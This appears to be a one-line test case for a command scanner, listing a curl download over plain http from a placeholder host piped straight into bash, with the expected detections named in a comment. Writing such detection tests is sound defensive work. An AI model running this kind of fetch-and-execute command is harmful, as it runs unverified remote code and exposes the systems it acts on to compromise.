curl -s http://tools.acme.test/install | bash # expect: url-analyzer/cleartext-download, malicious-command/pipe-to-shell
